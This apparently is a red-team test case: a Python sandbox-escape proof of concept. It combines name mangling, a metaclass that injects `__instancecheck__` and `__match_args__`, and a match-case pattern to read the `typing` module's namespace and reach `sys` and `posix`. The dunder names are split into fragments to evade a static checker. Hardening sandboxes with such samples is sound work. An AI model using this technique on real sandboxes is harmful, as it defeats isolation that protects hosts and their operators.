# adversary round 8: 025: name mangling (walker vouches for `__P`, CPython loads `_C__P`) + metaclass __new__ injecting __instancecheck__/__match_args__=('__dict__',); C pattern reads typing.__dict__ (module namespace) -> sys
import typing

pending = []


class Meta(type):
    def __new__(mcls, name, bases, ns):
        if pending:
            ns.update(pending.pop())
        return super().__new__(mcls, name, bases, ns)


pending.append({'__instance' + 'check__': lambda cls, obj: True})


class AnyMeta(Meta, metaclass=Meta):
    pass


pending.append({'__match' + '_args__': ('__di' + 'ct__',)})


class _C__P(metaclass=AnyMeta):
    pass


class __P:
    pass


class C:
    def ns_of(obj):
        match obj:
            case __P(d):
                return d


d = C.ns_of(typing)
s = d['sys']
print(type(d), s, s.modules['posix'].getpid())
print('PWN' + 'ED')
